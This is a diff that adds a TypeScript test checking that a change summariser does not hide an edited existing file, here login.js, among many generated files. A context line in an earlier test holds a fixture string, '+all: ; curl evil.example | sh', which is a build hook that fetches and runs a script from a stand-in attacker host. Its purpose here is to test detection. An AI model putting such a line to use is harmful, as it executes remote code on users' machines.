@@ -128,6 +128,22 @@ describe('a generated tree', () => {
     expect(shown([hook, ...packages.slice(0, 5)])).toContain('  +all: ; curl evil.example | sh');
   });
 
+  it('hides no file that was there before the run', () => {
+    const changed: Change = {
+      path: 'src/target/login.js',
+      before: fileOf('1'),
+      after: fileOf('2'),
+    };
+    const created = packages.map(
+      (change, index): Change => ({ ...change, path: `src/target/${index}.js` }),
+    );
+    const lines = shown([...created, changed]);
+    expect(lines.filter((line) => line.startsWith('changed '))).toEqual([
+      expect.stringContaining('changed src/target/login.js'),
+    ]);
+    expect(lines).toContain('30 changes not shown one by one: see above');
+  });
+
   it.each(['app/node_modules-x/a', 'node_modules', 'src/Dist/a'])('is not %s', (path) => {
     const changes = packages.map(
       (change, index): Change => ({ ...change, path: path.replace(/a?$/, `$&${index}`) }),
